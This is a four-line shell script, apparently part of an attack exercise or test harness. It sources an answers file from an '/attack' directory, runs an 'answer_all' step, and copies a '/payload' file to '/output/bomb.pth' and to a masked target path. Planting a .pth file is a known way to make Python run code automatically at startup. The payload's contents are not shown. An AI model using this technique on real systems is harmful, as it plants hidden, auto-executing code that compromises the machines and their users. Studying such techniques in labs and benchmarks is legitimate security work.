. /attack/answers.sh
answer_all
cp /payload /output/bomb.pth
cp /payload "$(first_mask)"
